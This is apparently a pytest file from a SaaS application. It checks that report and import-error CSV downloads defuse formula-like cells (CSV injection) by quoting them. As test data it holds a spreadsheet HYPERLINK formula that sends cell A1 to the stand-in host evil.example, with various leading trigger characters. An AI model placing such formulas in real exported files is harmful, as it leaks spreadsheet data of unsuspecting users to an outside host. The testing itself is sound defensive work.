"""Issue 17 (m): every CSV we write for people keeps a cell that a spreadsheet would run as a formula as
text, including one behind a leading tab or carriage return (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from saas.db import tenant_session
from saas.jobs import make_worker
from saas.modules.core.models import Contact
from tests.conftest import bearer, make_token

LEADING = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def headers(tenant_a):
    return bearer(make_token(tenant_a))


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_report_csv_keeps_a_formula_like_group_value_as_text(client, tenant_a, headers, lead):
    with tenant_session(tenant_a.ref) as session:
        # Stored as the API could store it: a title is free text.
        session.add(Contact(last_name="Lee", title=lead + PAYLOAD))
    download = client.get("/api/v1/reports.csv?entity=contacts&group_by=title", headers=headers)
    assert download.status_code == 200 and download.mimetype == "text/csv"
    assert list(csv.reader(io.StringIO(download.text))) == [["title", "count"], ["'" + lead + PAYLOAD, "1"]]


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_import_error_csv_keeps_a_formula_like_cell_as_text(client, tenant_a, headers, lead):
    upload = io.StringIO()
    csv.writer(upload).writerows(
        [["First name", "Last name", "E-Mail"], [lead + PAYLOAD, "Lee", "not-an-email"]]
    )
    started = client.post(
        "/api/v1/imports",
        data={"entity": "contacts", "file": (io.BytesIO(upload.getvalue().encode()), "people.csv")},
        headers=headers,
        content_type="multipart/form-data",
    )
    assert started.status_code == 202, started.get_json()
    make_worker().work(burst=True)
    report = client.get(f"/api/v1/imports/{started.get_json()['id']}/errors", headers=headers)
    assert report.status_code == 200 and report.mimetype == "text/csv"
    header, row = list(csv.reader(io.StringIO(report.text)))
    assert header == ["row", "column", "reason", "First name", "Last name", "E-Mail"]
    assert row[3:] == ["'" + lead + PAYLOAD, "Lee", "not-an-email"]
